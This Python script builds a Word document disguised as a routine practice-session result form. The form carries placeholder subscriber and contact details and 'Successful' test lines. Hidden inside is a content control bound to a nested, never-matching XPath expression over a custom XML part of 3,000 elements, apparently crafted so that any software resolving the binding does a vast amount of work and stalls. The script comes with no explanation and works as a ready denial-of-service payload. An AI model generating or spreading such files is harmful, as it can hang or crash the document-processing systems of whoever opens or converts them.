import zipfile
paras = ["Appendix B - Result Form for Using HSN to participate Practice Session",
 "Subscriber Name: Acme Securities Ltd", "HSN Subscriber ID: HSN0427", "Contact Person: Chan Tai Man",
 "Telephone: 2211 6080", "Email: tm.chan@acme.com.hk",
 "OTP-C: Successful", "OTP-CSC: Successful", "OMD-C: Successful", "OMD-CC: Successful"]
P = lambda t: f'<w:p><w:r><w:t xml:space="preserve">{t}</w:t></w:r></w:p>'
xp = "//*[count(//*[count(//*) &gt; 0]) &lt; 0]"
sdt = f'<w:p><w:r><w:t>Issues: </w:t></w:r><w:sdt><w:sdtPr><w:dataBinding w:xpath="{xp}" w:storeItemID="{{11111111-1111-1111-1111-111111111111}}"/><w:text/></w:sdtPr><w:sdtContent><w:r><w:t>none</w:t></w:r></w:sdtContent></w:sdt></w:p>'
doc = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{"".join(P(p) for p in paras)}{sdt}</w:body></w:document>'
ct = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
rels = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
drels = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXml" Target="../customXml/item1.xml"/></Relationships>'
item = "<root>" + "<a/>"*3000 + "</root>"
with zipfile.ZipFile("e.docx", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("[Content_Types].xml", ct); z.writestr("_rels/.rels", rels); z.writestr("word/document.xml", doc)
    z.writestr("word/_rels/document.xml.rels", drels); z.writestr("customXml/item1.xml", item)
